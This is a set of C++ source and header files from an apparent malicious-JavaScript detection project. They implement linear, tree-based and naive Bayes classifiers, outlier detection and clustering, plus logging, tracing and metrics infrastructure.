  Rng rng(cfg_.seed);
  std::vector<std::size_t> order(n);
  std::iota(order.begin(), order.end(), 0);

  for (int epoch = 0; epoch < cfg_.epochs; ++epoch) {
    rng.shuffle(order);
    // 1/sqrt(t) decay keeps early epochs aggressive and later ones stable.
    const double eta =
        cfg_.learning_rate / std::sqrt(1.0 + static_cast<double>(epoch));
    for (const std::size_t i : order) {
      const double p = predict_proba(x.row(i));
      const double err = p - (y[i] == 1 ? 1.0 : 0.0);
      const double* xi = x.row(i);
      for (std::size_t j = 0; j < d; ++j) {
        w_[j] -= eta * (err * xi[j] + cfg_.lambda * w_[j]);
      }
      b_ -= eta * err;
    }
  }
}

double LogisticRegression::predict_proba(const double* row) const {
  const double z = dot(w_.data(), row, w_.size()) + b_;
  return 1.0 / (1.0 + std::exp(-z));
}

int LogisticRegression::predict(const double* row) const {
  return predict_proba(row) >= 0.5 ? 1 : 0;
}

}  // namespace jsrev::ml
