// Outlier detection: FastABOD, k-NN distance, and LOF, plus the MetaOD-style
// proxy selector (paper Section III-D).
//
// The paper uses MetaOD to pick an outlier-detection model and lands on
// FastABOD (angle-based outlier detection with a k-NN approximation). We
// implement FastABOD plus two alternatives and a small selector so the
// model-selection step is a real computation rather than a constant; on
// path-embedding data the selector picks FastABOD, matching the paper.
#pragma once

#include <cstddef>
#include <string>
#include <vector>

#include "ml/matrix.h"

namespace jsrev::ml {

struct OutlierConfig {
  int k_neighbors = 10;        // neighborhood size for all three methods
  double contamination = 0.1;  // fraction of points flagged as outliers
  // Parallel width for the O(n^2) k-NN pass and the per-point score passes
  // (0 = hardware concurrency, 1 = serial). Scores and masks are
  // bit-identical at any width: every pass writes disjoint per-point slots.
  std::size_t threads = 1;
};

/// Per-point outlier scores; HIGHER means MORE outlying for every method
/// (ABOF is negated internally to satisfy this convention).
struct OutlierResult {
  std::vector<double> scores;
  std::vector<bool> is_outlier;  // top `contamination` fraction by score
  std::size_t outlier_count = 0;
};

/// Fast Angle-Based Outlier Detection: for each point, the variance of the
/// angle term <(b-p),(c-p)> / (|b-p|^2 |c-p|^2) over pairs (b,c) drawn from
/// the point's k nearest neighbors. Small variance = outlier.
OutlierResult fastabod(const Matrix& points, const OutlierConfig& cfg = {});

/// Mean distance to the k nearest neighbors (large = outlier).
OutlierResult knn_outlier(const Matrix& points, const OutlierConfig& cfg = {});

/// Local Outlier Factor (large = outlier).
OutlierResult lof(const Matrix& points, const OutlierConfig& cfg = {});

enum class OutlierMethod { kFastAbod, kKnn, kLof };

std::string outlier_method_name(OutlierMethod m);

/// MetaOD-substitute: scores each candidate method on an internal proxy
/// criterion (agreement with an ensemble consensus of all candidates, the
/// standard unsupervised model-selection heuristic) and returns the best.
OutlierMethod select_outlier_method(const Matrix& points,
                                    const OutlierConfig& cfg = {});

/// Runs the given method.
OutlierResult run_outlier(OutlierMethod m, const Matrix& points,
                          const OutlierConfig& cfg = {});

}  // namespace jsrev::ml
