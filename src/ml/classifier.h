// Common interface for the binary classifiers evaluated in Table II.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "ml/matrix.h"
#include "ml/metrics.h"

namespace jsrev::ml {

class Classifier {
 public:
  virtual ~Classifier() = default;

  /// Trains on feature rows X with labels y (1 = malicious, 0 = benign).
  virtual void fit(const Matrix& x, const std::vector<int>& y) = 0;

  /// Predicts the label for one feature row of x.cols() values.
  virtual int predict(const double* row) const = 0;

  virtual std::string name() const = 0;

  /// Convenience: predictions for every row of X.
  std::vector<int> predict_all(const Matrix& x) const {
    std::vector<int> out(x.rows());
    for (std::size_t i = 0; i < x.rows(); ++i) out[i] = predict(x.row(i));
    return out;
  }

  /// Convenience: metrics of this classifier on a labeled set.
  Metrics evaluate(const Matrix& x, const std::vector<int>& y) const {
    return compute_metrics(y, predict_all(x));
  }
};

enum class ClassifierKind {
  kSvm,
  kLogisticRegression,
  kDecisionTree,
  kGaussianNaiveBayes,
  kBernoulliNaiveBayes,
  kRandomForest,
};

std::string classifier_kind_name(ClassifierKind k);

/// Factory with per-kind default hyperparameters. `seed` controls any
/// stochastic component (bootstrap sampling, feature subsets, SGD order).
std::unique_ptr<Classifier> make_classifier(ClassifierKind kind,
                                            std::uint64_t seed = 1);

}  // namespace jsrev::ml
