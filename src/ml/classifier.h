// Common interface for the binary classifiers evaluated in Table II.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "ml/matrix.h"
#include "ml/metrics.h"

namespace jsrev::ml {

class Classifier {
 public:
  virtual ~Classifier() = default;

  /// Trains on feature rows X with labels y (1 = malicious, 0 = benign).
  virtual void fit(const Matrix& x, const std::vector<int>& y) = 0;

  /// Predicts the label for one feature row of x.cols() values.
  virtual int predict(const double* row) const = 0;

  virtual std::string name() const = 0;

  /// Batch prediction fanning out per row (predict() is const and
  /// thread-safe for every classifier here). threads: 0 = hardware
  /// concurrency, 1 = serial; the output is identical at any width.
  std::vector<int> predict_all(const Matrix& x, std::size_t threads = 1) const;

  /// Convenience: metrics of this classifier on a labeled set.
  Metrics evaluate(const Matrix& x, const std::vector<int>& y,
                   std::size_t threads = 1) const {
    return compute_metrics(y, predict_all(x, threads));
  }
};

enum class ClassifierKind {
  kSvm,
  kLogisticRegression,
  kDecisionTree,
  kGaussianNaiveBayes,
  kBernoulliNaiveBayes,
  kRandomForest,
};

std::string classifier_kind_name(ClassifierKind k);

/// Factory with per-kind default hyperparameters. `seed` controls any
/// stochastic component (bootstrap sampling, feature subsets, SGD order);
/// `threads` the training parallel width where the kind supports it
/// (currently the random forest; 0 = hardware concurrency, 1 = serial).
std::unique_ptr<Classifier> make_classifier(ClassifierKind kind,
                                            std::uint64_t seed = 1,
                                            std::size_t threads = 1);

}  // namespace jsrev::ml
