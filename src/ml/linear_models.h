// Linear classifiers: Pegasos-style linear SVM and logistic regression.
#pragma once

#include <cstdint>
#include <vector>

#include "ml/classifier.h"
#include "util/rng.h"

namespace jsrev::ml {

struct LinearConfig {
  int epochs = 40;
  double learning_rate = 0.1;   // logistic regression step size
  double lambda = 1e-4;         // SVM regularization / LR weight decay
  std::uint64_t seed = 9;
};

/// Linear SVM trained with the Pegasos stochastic sub-gradient method on
/// hinge loss with L2 regularization.
class LinearSvm : public Classifier {
 public:
  explicit LinearSvm(LinearConfig cfg = {});

  void fit(const Matrix& x, const std::vector<int>& y) override;
  int predict(const double* row) const override;
  std::string name() const override { return "SVM"; }

  double decision_function(const double* row) const;

 private:
  LinearConfig cfg_;
  std::vector<double> w_;
  double b_ = 0.0;
};

/// Logistic regression trained with mini-batch-free SGD + weight decay.
class LogisticRegression : public Classifier {
 public:
  explicit LogisticRegression(LinearConfig cfg = {});

  void fit(const Matrix& x, const std::vector<int>& y) override;
  int predict(const double* row) const override;
  std::string name() const override { return "LogisticRegression"; }

  double predict_proba(const double* row) const;

 private:
  LinearConfig cfg_;
  std::vector<double> w_;
  double b_ = 0.0;
};

}  // namespace jsrev::ml
