// Raw-pointer inference kernels shared by the heap-trained models and the
// mmap-backed ModelView.
//
// Every parameter block here is a borrowed view over flat little-endian
// arrays — either the training-time std::vector storage or bytes mapped
// straight from a JSRM model artifact. The heap classes (AttentionModel,
// RandomForest, MinMaxScaler) delegate their inference paths to these
// kernels over their own storage, so a mapped model is bit-identical to the
// in-memory one by construction: both run the same floating-point
// operations in the same order on the same values.
#pragma once

#include <cstdint>
#include <vector>

#include "ml/attention_model.h"
#include "ml/matrix.h"

namespace jsrev::ml {

/// Numerically-stable softmax, in place. Exposed so the attention trainer
/// and the embed kernel share one implementation.
void softmax_inplace(std::vector<double>& v);

/// Index of the nearest centroid among `n` rows of `d` doubles (strictly
/// closer wins; ties keep the lower index — the Matrix overload in kmeans.h
/// delegates here).
int nearest_centroid_raw(const double* centroids, std::size_t n,
                         std::size_t d, const double* point);

/// Attention-model inference parameters (paper Eq. 1-3) as raw arrays.
struct AttentionParams {
  const double* w = nullptr;     // vocab_size x dim embedding matrix
  const double* attn = nullptr;  // attention vector a, length dim
  const double* u = nullptr;     // 2 x dim classifier head (unused by embed)
  const double* bias = nullptr;  // length 2 (unused by embed)
  std::uint32_t vocab_size = 0;
  std::uint32_t dim = 0;
};

/// Embeds one script's path ids: e_i = tanh(W[id_i]), alpha = softmax(e·a).
/// Ids outside [0, vocab_size) are skipped. AttentionModel::embed routes
/// through this kernel.
EmbeddedScript embed_paths(const AttentionParams& p,
                           const std::vector<std::int32_t>& path_ids);

/// One random-forest node as a fixed-width 32-byte record — the on-disk and
/// in-memory unit of the artifact's preorder node pool. Child indices are
/// 32-bit and tree-relative (an index into the same tree's node range).
struct ForestNodeRec {
  std::int32_t feature = -1;  // -1 = leaf
  std::int32_t left = -1;
  std::int32_t right = -1;
  std::int32_t pad = 0;  // keeps doubles 8-aligned; always zero on disk
  double threshold = 0.0;
  double p_malicious = 0.0;
};
static_assert(sizeof(ForestNodeRec) == 32, "node record must be packed");

/// Borrowed view of a flattened forest: one preorder node pool plus a
/// prefix-offset table (tree t owns nodes [offsets[t], offsets[t+1])).
struct ForestView {
  const ForestNodeRec* nodes = nullptr;
  const std::uint32_t* offsets = nullptr;  // n_trees + 1 entries
  std::uint32_t n_trees = 0;
  std::uint32_t n_features = 0;

  /// Mean leaf probability across trees, summed in tree order — the exact
  /// arithmetic of RandomForest::predict_proba.
  double predict_proba(const double* row) const;
  int predict(const double* row) const {
    return predict_proba(row) >= 0.5 ? 1 : 0;
  }
};

/// Min-max scaling of one feature row (paper Eq. 6) against raw min/max
/// arrays — the exact arithmetic of MinMaxScaler::transform_row.
void scale_row(double* row, const double* min, const double* max,
               std::size_t n);

}  // namespace jsrev::ml
