// CART decision tree (gini impurity) and bagged random forest with
// mean-decrease-impurity feature importances (used for Table VII).
#pragma once

#include <cstdint>
#include <iosfwd>
#include <vector>

#include "ml/classifier.h"
#include "ml/model_view_ops.h"
#include "util/rng.h"

namespace jsrev::ml {

struct TreeConfig {
  int max_depth = 16;
  int min_samples_split = 2;
  int max_features = 0;  // 0 = all; otherwise random subset per split
  std::uint64_t seed = 5;
};

class DecisionTree : public Classifier {
 public:
  explicit DecisionTree(TreeConfig cfg = {});

  void fit(const Matrix& x, const std::vector<int>& y) override;
  int predict(const double* row) const override;
  std::string name() const override { return "DecisionTree"; }

  /// Probability of the malicious class at the reached leaf.
  double predict_proba(const double* row) const;

  /// Accumulated impurity decrease per feature (unnormalized).
  const std::vector<double>& impurity_decrease() const { return importance_; }

  /// Fits on a row subset (bootstrap support for the forest).
  void fit_subset(const Matrix& x, const std::vector<int>& y,
                  const std::vector<std::size_t>& rows);

  /// Tree persistence (structure + leaf probabilities + importances).
  void save(std::ostream& out) const;
  void load(std::istream& in);

  /// Appends this tree's nodes (build order, tree-relative child indices)
  /// to a flat ForestNodeRec pool.
  void append_flat(std::vector<ForestNodeRec>* pool) const;
  std::size_t node_count() const { return nodes_.size(); }

 private:
  struct TreeNode {
    int feature = -1;       // -1 = leaf
    double threshold = 0.0;
    int left = -1;
    int right = -1;
    double p_malicious = 0.0;
  };

  int build(const Matrix& x, const std::vector<int>& y,
            std::vector<std::size_t>& rows, std::size_t begin,
            std::size_t end, int depth, Rng& rng);

  TreeConfig cfg_;
  std::vector<TreeNode> nodes_;
  std::vector<double> importance_;
  std::size_t n_features_ = 0;
};

struct ForestConfig {
  int n_trees = 60;
  int max_depth = 16;
  int min_samples_split = 2;
  std::uint64_t seed = 5;
  // Parallel width for per-tree training (0 = hardware concurrency,
  // 1 = serial). Tree t's RNG is derived from (seed, t), never from a shared
  // sequential stream, so the fitted forest is bit-identical at any width.
  std::size_t threads = 1;
};

class RandomForest : public Classifier {
 public:
  explicit RandomForest(ForestConfig cfg = {});

  void fit(const Matrix& x, const std::vector<int>& y) override;
  int predict(const double* row) const override;
  std::string name() const override { return "RandomForest"; }

  double predict_proba(const double* row) const;

  /// Normalized mean-decrease-impurity importances (sums to 1).
  std::vector<double> feature_importances() const;

  /// Forest persistence.
  void save(std::ostream& out) const;
  void load(std::istream& in);

  std::size_t tree_count() const { return trees_.size(); }
  std::size_t feature_count() const { return n_features_; }

  /// Flattens the forest into one preorder node pool plus a prefix-offset
  /// table (tree t owns nodes [offsets[t], offsets[t+1])) — the layout the
  /// JSRM artifact serializes and ForestView walks zero-copy.
  void export_flat(std::vector<ForestNodeRec>* pool,
                   std::vector<std::uint32_t>* offsets) const;

 private:
  ForestConfig cfg_;
  std::vector<DecisionTree> trees_;
  std::size_t n_features_ = 0;
};

}  // namespace jsrev::ml
