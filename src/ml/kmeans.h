// K-Means and Bisecting K-Means clustering (paper Section III-D).
//
// Bisecting K-Means repeatedly splits the cluster with the largest SSE via
// 2-means until K clusters exist, which removes the initial-centroid
// sensitivity of plain k-means — the reason the paper chose it.
#pragma once

#include <cstdint>
#include <vector>

#include "ml/matrix.h"
#include "util/rng.h"

namespace jsrev::ml {

struct KMeansConfig {
  int k = 8;
  int max_iters = 50;
  int bisect_trials = 4;  // 2-means restarts per split (keep the best)
  std::uint64_t seed = 23;
  // Parallel width for the per-point assignment/distance passes
  // (0 = hardware concurrency, 1 = serial). Bit-identical at any width:
  // assignments write disjoint slots and every floating-point accumulation
  // (centroid sums, SSE) stays serial in row order.
  std::size_t threads = 1;
};

struct Clustering {
  Matrix centroids;                 // k x d
  std::vector<int> assignment;      // per input row, centroid index
  double sse = 0.0;                 // total within-cluster squared error
  std::vector<double> cluster_sse;  // per-cluster SSE
  std::vector<std::size_t> sizes;   // per-cluster member counts
};

/// Plain Lloyd k-means with k-means++-style seeding.
Clustering kmeans(const Matrix& points, const KMeansConfig& cfg);

/// Bisecting k-means: split the worst cluster until cfg.k clusters exist.
Clustering bisecting_kmeans(const Matrix& points, const KMeansConfig& cfg);

/// Index of the nearest centroid to `point` (d = centroids.cols()).
int nearest_centroid(const Matrix& centroids, const double* point);

/// Distance from `point` to its nearest centroid.
double nearest_centroid_distance(const Matrix& centroids, const double* point);

}  // namespace jsrev::ml
