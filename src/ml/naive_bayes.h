// Gaussian naive Bayes (Table II classifier sweep) and Bernoulli naive
// Bayes (the ZOZZLE baseline's classifier).
#pragma once

#include <vector>

#include "ml/classifier.h"

namespace jsrev::ml {

class GaussianNaiveBayes : public Classifier {
 public:
  void fit(const Matrix& x, const std::vector<int>& y) override;
  int predict(const double* row) const override;
  std::string name() const override { return "GaussianNB"; }

 private:
  // Per class c (0 benign, 1 malicious), per feature: mean and variance.
  std::vector<double> mean_[2];
  std::vector<double> var_[2];
  double log_prior_[2] = {0.0, 0.0};
  std::size_t n_features_ = 0;
};

/// Features are treated as binary: value > 0 means "present".
class BernoulliNaiveBayes : public Classifier {
 public:
  void fit(const Matrix& x, const std::vector<int>& y) override;
  int predict(const double* row) const override;
  std::string name() const override { return "BernoulliNB"; }

 private:
  std::vector<double> log_p_[2];      // log P(feature present | class)
  std::vector<double> log_not_p_[2];  // log P(feature absent | class)
  double log_prior_[2] = {0.0, 0.0};
  std::size_t n_features_ = 0;
};

}  // namespace jsrev::ml
