#include "obs/trace.h"

#include <chrono>
#include <cstring>
#include <ostream>

#include "obs/json.h"

namespace jsrev::obs {

std::atomic<bool> Tracer::g_enabled{false};

Tracer& Tracer::global() {
  static Tracer t;
  return t;
}

std::int64_t Tracer::now_us() noexcept {
  using Clock = std::chrono::steady_clock;
  static const Clock::time_point epoch = Clock::now();
  return std::chrono::duration_cast<std::chrono::microseconds>(Clock::now() -
                                                               epoch)
      .count();
}

Tracer::Buffer* Tracer::this_thread_buffer() {
  thread_local Buffer* buf = [this] {
    std::lock_guard<std::mutex> lock(mu_);
    buffers_.push_back(std::make_unique<Buffer>(next_tid_++));
    return buffers_.back().get();
  }();
  return buf;
}

void Tracer::record(const char* name, const char* category,
                    std::int64_t begin_us, std::int64_t end_us) noexcept {
  Buffer* buf = this_thread_buffer();
  Event e;
  std::strncpy(e.name, name, kMaxName);
  e.name[kMaxName] = '\0';
  std::strncpy(e.category, category, kMaxCategory);
  e.category[kMaxCategory] = '\0';
  e.ts_us = begin_us;
  e.dur_us = end_us - begin_us;
  std::lock_guard<std::mutex> lock(buf->mu);
  if (buf->events.size() < kEventsPerThread) {
    buf->events.push_back(e);
  } else {
    buf->events[buf->head] = e;
    buf->head = (buf->head + 1) % kEventsPerThread;
    buf->wrapped = true;
  }
}

std::string Tracer::export_chrome_json(bool clear_after) {
  JsonWriter w;
  w.begin_object();
  w.key("traceEvents");
  w.begin_array();
  std::lock_guard<std::mutex> lock(mu_);
  for (const auto& buf : buffers_) {
    std::lock_guard<std::mutex> buf_lock(buf->mu);
    // Oldest-first: a wrapped ring starts at head.
    const std::size_t n = buf->events.size();
    const std::size_t start = buf->wrapped ? buf->head : 0;
    for (std::size_t i = 0; i < n; ++i) {
      const Event& e = buf->events[(start + i) % n];
      w.begin_object();
      w.kv("name", e.name);
      w.kv("cat", e.category);
      w.kv("ph", "X");
      w.kv("ts", e.ts_us);
      w.kv("dur", e.dur_us);
      w.kv("pid", 1);
      w.kv("tid", static_cast<std::int64_t>(buf->tid));
      w.end_object();
    }
    if (clear_after) {
      // Clear in place; the buffer stays bound to its thread.
      buf->events.clear();
      buf->head = 0;
      buf->wrapped = false;
    }
  }
  w.end_array();
  w.kv("displayTimeUnit", "ms");
  w.end_object();
  return w.str();
}

void Tracer::write_chrome_json(std::ostream& out, bool clear_after) {
  out << export_chrome_json(clear_after) << "\n";
}

void Tracer::clear() {
  std::lock_guard<std::mutex> lock(mu_);
  for (const auto& buf : buffers_) {
    std::lock_guard<std::mutex> buf_lock(buf->mu);
    buf->events.clear();
    buf->head = 0;
    buf->wrapped = false;
  }
}

std::size_t Tracer::event_count() const {
  std::lock_guard<std::mutex> lock(mu_);
  std::size_t total = 0;
  for (const auto& buf : buffers_) {
    std::lock_guard<std::mutex> buf_lock(buf->mu);
    total += buf->events.size();
  }
  return total;
}

}  // namespace jsrev::obs
