#include "obs/log.h"

#include <chrono>
#include <cstdio>
#include <mutex>
#include <utility>

#include "obs/json.h"

namespace jsrev::obs {

namespace {

std::atomic<int> g_level{static_cast<int>(LogLevel::kInfo)};

std::mutex g_sink_mu;
std::function<void(std::string_view)> g_sink;  // empty = stderr default

std::int64_t now_epoch_ms() {
  return std::chrono::duration_cast<std::chrono::milliseconds>(
             std::chrono::system_clock::now().time_since_epoch())
      .count();
}

std::int64_t mono_now_us() {
  return std::chrono::duration_cast<std::chrono::microseconds>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

void emit_line(const std::string& line) {
  std::lock_guard<std::mutex> lock(g_sink_mu);
  if (g_sink) {
    g_sink(line);
    return;
  }
  std::fwrite(line.data(), 1, line.size(), stderr);
  std::fputc('\n', stderr);
}

std::string format_number(double v) {
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.6g", v);
  return buf;
}

}  // namespace

const char* log_level_name(LogLevel level) noexcept {
  switch (level) {
    case LogLevel::kDebug: return "debug";
    case LogLevel::kInfo: return "info";
    case LogLevel::kWarn: return "warn";
    case LogLevel::kError: return "error";
  }
  return "info";
}

bool log_level_from_name(std::string_view name, LogLevel* out) noexcept {
  if (name == "debug") *out = LogLevel::kDebug;
  else if (name == "info") *out = LogLevel::kInfo;
  else if (name == "warn") *out = LogLevel::kWarn;
  else if (name == "error") *out = LogLevel::kError;
  else return false;
  return true;
}

void set_log_level(LogLevel level) noexcept {
  g_level.store(static_cast<int>(level), std::memory_order_relaxed);
}

LogLevel log_level() noexcept {
  return static_cast<LogLevel>(g_level.load(std::memory_order_relaxed));
}

bool log_enabled(LogLevel level) noexcept {
  return static_cast<int>(level) >= g_level.load(std::memory_order_relaxed);
}

void set_log_sink(std::function<void(std::string_view)> sink) {
  std::lock_guard<std::mutex> lock(g_sink_mu);
  g_sink = std::move(sink);
}

// ---------------------------------------------------------------------------
// LogRateLimit

bool LogRateLimit::allow(std::uint64_t* suppressed_out) noexcept {
  const std::int64_t now = mono_now_us();
  if (!init_.exchange(true, std::memory_order_relaxed)) {
    last_refill_us_.store(now, std::memory_order_relaxed);
    tokens_milli_.store(static_cast<std::int64_t>(burst_ * 1000.0),
                        std::memory_order_relaxed);
  }

  // Refill: credit elapsed-time tokens once, by swapping the refill stamp.
  std::int64_t last = last_refill_us_.load(std::memory_order_relaxed);
  if (now > last &&
      last_refill_us_.compare_exchange_strong(last, now,
                                              std::memory_order_relaxed)) {
    const double earned =
        static_cast<double>(now - last) * 1e-6 * per_sec_ * 1000.0;
    const auto cap = static_cast<std::int64_t>(burst_ * 1000.0);
    std::int64_t cur = tokens_milli_.load(std::memory_order_relaxed);
    std::int64_t next = 0;
    do {
      next = cur + static_cast<std::int64_t>(earned);
      if (next > cap) next = cap;
    } while (!tokens_milli_.compare_exchange_weak(cur, next,
                                                  std::memory_order_relaxed));
  }

  // Spend: one token = 1000 milli-tokens.
  std::int64_t cur = tokens_milli_.load(std::memory_order_relaxed);
  do {
    if (cur < 1000) {
      suppressed_.fetch_add(1, std::memory_order_relaxed);
      total_suppressed_.fetch_add(1, std::memory_order_relaxed);
      return false;
    }
  } while (!tokens_milli_.compare_exchange_weak(cur, cur - 1000,
                                                std::memory_order_relaxed));
  *suppressed_out = suppressed_.exchange(0, std::memory_order_relaxed);
  return true;
}

// ---------------------------------------------------------------------------
// LogRecord

LogRecord::LogRecord(LogLevel level, std::string_view event) {
  if (!log_enabled(level)) return;
  enabled_ = true;
  begin(level, event, 0);
}

LogRecord::LogRecord(LogLevel level, std::string_view event,
                     LogRateLimit& limit) {
  if (!log_enabled(level)) return;
  std::uint64_t suppressed = 0;
  if (!limit.allow(&suppressed)) return;
  enabled_ = true;
  begin(level, event, suppressed);
}

void LogRecord::begin(LogLevel level, std::string_view event,
                      std::uint64_t suppressed) {
  line_.reserve(128);
  line_ += "{\"ts_ms\":";
  line_ += std::to_string(now_epoch_ms());
  line_ += ",\"level\":\"";
  line_ += log_level_name(level);
  line_ += "\",\"event\":\"";
  line_ += json_escape(event);
  line_ += '"';
  if (suppressed != 0) {
    line_ += ",\"suppressed\":";
    line_ += std::to_string(suppressed);
  }
}

LogRecord::~LogRecord() {
  if (!enabled_) return;
  line_ += '}';
  emit_line(line_);
}

void LogRecord::raw_key(std::string_view key) {
  line_ += ",\"";
  line_ += json_escape(key);
  line_ += "\":";
}

LogRecord& LogRecord::kv(std::string_view key, std::string_view value) {
  if (!enabled_) return *this;
  raw_key(key);
  line_ += '"';
  line_ += json_escape(value);
  line_ += '"';
  return *this;
}

LogRecord& LogRecord::kv(std::string_view key, bool value) {
  if (!enabled_) return *this;
  raw_key(key);
  line_ += value ? "true" : "false";
  return *this;
}

LogRecord& LogRecord::kv(std::string_view key, double value) {
  if (!enabled_) return *this;
  raw_key(key);
  line_ += format_number(value);
  return *this;
}

LogRecord& LogRecord::kv(std::string_view key, std::int64_t value) {
  if (!enabled_) return *this;
  raw_key(key);
  line_ += std::to_string(value);
  return *this;
}

LogRecord& LogRecord::kv(std::string_view key, std::uint64_t value) {
  if (!enabled_) return *this;
  raw_key(key);
  line_ += std::to_string(value);
  return *this;
}

}  // namespace jsrev::obs
