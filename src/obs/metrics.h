// Process-wide metrics registry: named counters, gauges, summaries, and
// fixed-bucket histograms with labels.
//
// Hot-path design: every mutating operation (Counter::add,
// Histogram::observe, ...) is lock-free — each metric owns a small array of
// cache-line-padded shards and a thread writes the shard picked by its
// thread-local slot (assigned round-robin on first use), so concurrent
// writers almost never touch the same line. Reads merge the shards; they are
// exact because shard values only grow monotonically (counters) or are
// summed associatively (sums/counts).
//
// Metric creation (Registry::counter/gauge/summary/histogram) takes a mutex
// and is intended for cold paths: call sites cache the returned pointer
// (metrics live for the process lifetime; pointers never invalidate).
//
// Export is deterministic: metrics sort by (name, labels) and values format
// identically run to run. deterministic_json() additionally excludes
// duration-valued (Unit::kMillis) and schedule-dependent metrics, yielding a
// document that is byte-identical at any thread width for a fixed workload —
// the obs determinism test relies on this.
//
// The whole subsystem can be switched off (set_metrics_enabled(false)):
// mutations become a single relaxed atomic load + branch, which is what the
// obs-off condition of bench_obs_overhead measures.
#pragma once

#include <array>
#include <atomic>
#include <cstddef>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

namespace jsrev::obs {

/// Global metrics kill switch (default on). Off, every mutation no-ops.
void set_metrics_enabled(bool enabled) noexcept;
bool metrics_enabled() noexcept;

namespace detail {

inline constexpr std::size_t kShards = 16;  // power of two

/// Index of the calling thread's shard (stable per thread, round-robin).
std::size_t shard_index() noexcept;

struct alignas(64) CounterCell {
  std::atomic<std::uint64_t> v{0};
};

/// Adds to an atomic double with a CAS loop (atomic<double>::fetch_add is
/// not universally lock-free; the loop is, for our uncontended shards).
inline void atomic_add(std::atomic<double>& a, double delta) noexcept {
  double cur = a.load(std::memory_order_relaxed);
  while (!a.compare_exchange_weak(cur, cur + delta,
                                  std::memory_order_relaxed)) {
  }
}

}  // namespace detail

/// What a metric's value measures; used by exporters (kMillis metrics are
/// excluded from the deterministic export — wall time is never identical
/// across runs).
enum class Unit { kCount, kMillis, kBytes };

/// Monotonic counter.
class Counter {
 public:
  void add(std::uint64_t n = 1) noexcept {
    if (!metrics_enabled()) return;
    cells_[detail::shard_index()].v.fetch_add(n, std::memory_order_relaxed);
  }
  std::uint64_t value() const noexcept;
  void reset() noexcept;

 private:
  std::array<detail::CounterCell, detail::kShards> cells_;
};

/// Last-writer-wins instantaneous value with add/sub (queue depths, sizes).
class Gauge {
 public:
  void set(std::int64_t v) noexcept {
    if (!metrics_enabled()) return;
    v_.store(v, std::memory_order_relaxed);
  }
  void add(std::int64_t d = 1) noexcept {
    if (!metrics_enabled()) return;
    v_.fetch_add(d, std::memory_order_relaxed);
  }
  void sub(std::int64_t d = 1) noexcept { add(-d); }
  std::int64_t value() const noexcept {
    return v_.load(std::memory_order_relaxed);
  }
  void reset() noexcept { v_.store(0, std::memory_order_relaxed); }

 private:
  std::atomic<std::int64_t> v_{0};
};

/// Streaming distribution summary: count, sum, sum of squares, min, max —
/// enough for exact mean and (sample) stddev without retaining samples.
class Summary {
 public:
  void observe(double v) noexcept;

  std::uint64_t count() const noexcept;
  double sum() const noexcept;
  double mean() const noexcept;
  /// Sample standard deviation (n-1 denominator); 0 for fewer than 2 obs.
  double stddev() const noexcept;
  double min() const noexcept;  // 0 when empty
  double max() const noexcept;  // 0 when empty
  void reset() noexcept;

 private:
  struct alignas(64) Cell {
    std::atomic<std::uint64_t> count{0};
    std::atomic<double> sum{0.0};
    std::atomic<double> sumsq{0.0};
    std::atomic<double> min{0.0};
    std::atomic<double> max{0.0};
    std::atomic<bool> any{false};
  };
  std::array<Cell, detail::kShards> cells_;
};

/// Fixed-bucket histogram: counts of observations <= each upper bound, plus
/// an overflow bucket, count, and sum. Bounds are fixed at creation.
class Histogram {
 public:
  explicit Histogram(std::vector<double> upper_bounds);

  void observe(double v) noexcept;

  const std::vector<double>& bounds() const noexcept { return bounds_; }
  /// Merged per-bucket counts; size bounds().size() + 1 (last = overflow).
  std::vector<std::uint64_t> bucket_counts() const;
  std::uint64_t count() const noexcept;
  double sum() const noexcept;
  void reset() noexcept;

 private:
  struct alignas(64) Cell {
    std::vector<std::atomic<std::uint64_t>> buckets;
    std::atomic<std::uint64_t> count{0};
    std::atomic<double> sum{0.0};
  };
  std::vector<double> bounds_;
  std::array<Cell, detail::kShards> cells_;
};

/// Sorted key=value labels attached to a metric instance.
using Labels = std::map<std::string, std::string>;

enum class MetricKind { kCounter, kGauge, kSummary, kHistogram };

/// One metric's identity and merged value(s) at a point in time — the
/// exporter-neutral snapshot row behind to_json() and the Prometheus
/// exposition (obs/prometheus.h).
struct MetricSample {
  std::string name;
  Labels labels;
  MetricKind kind = MetricKind::kCounter;
  Unit unit = Unit::kCount;
  bool schedule_dependent = false;
  std::string help;
  double value = 0.0;       // counter / gauge
  std::uint64_t count = 0;  // summary / histogram
  double sum = 0.0;         // summary / histogram
  std::vector<double> bounds;          // histogram upper bounds
  std::vector<std::uint64_t> buckets;  // per-bucket counts, last = overflow
};

/// Options given at metric creation.
struct MetricOptions {
  Unit unit = Unit::kCount;
  /// True for metrics whose value legitimately depends on the parallel
  /// schedule (thread-pool queue depths, task counts, per-worker load);
  /// excluded from the deterministic export.
  bool schedule_dependent = false;
  std::string help;
};

// Premade options for the common cases. Fully braced so call sites (and the
// summary() default argument) stay clean under -Wmissing-field-initializers.
inline const MetricOptions kMillisOptions{Unit::kMillis, false, {}};
inline const MetricOptions kScheduleDependent{Unit::kCount, true, {}};
inline const MetricOptions kScheduleDependentMillis{Unit::kMillis, true, {}};

class Registry {
 public:
  /// The process-wide registry every layer reports into.
  static Registry& global();

  Registry() = default;
  Registry(const Registry&) = delete;
  Registry& operator=(const Registry&) = delete;

  // Each getter returns the existing metric when (name, labels) is already
  // registered (options of the first registration win) or creates it.
  // Returned pointers are stable for the registry's lifetime. A name may be
  // used by only one metric kind; mixing kinds throws std::logic_error.
  Counter* counter(std::string_view name, const Labels& labels = {},
                   const MetricOptions& opts = {});
  Gauge* gauge(std::string_view name, const Labels& labels = {},
               const MetricOptions& opts = {});
  Summary* summary(std::string_view name, const Labels& labels = {},
                   const MetricOptions& opts = kMillisOptions);
  Histogram* histogram(std::string_view name, std::vector<double> bounds,
                       const Labels& labels = {},
                       const MetricOptions& opts = {});

  /// Snapshot of every registered metric with its merged current value(s),
  /// sorted by (name, labels). The exporter-neutral feed for to_json() and
  /// the Prometheus exposition writer.
  std::vector<MetricSample> samples() const;

  /// Deterministic full export: every metric with its current value(s),
  /// sorted by (name, labels).
  std::string to_json() const;
  /// Deterministic subset export: counters, gauges, and histogram bucket
  /// counts only, excluding kMillis-unit and schedule-dependent metrics.
  /// Byte-identical across thread widths for a fixed workload.
  std::string deterministic_json() const;
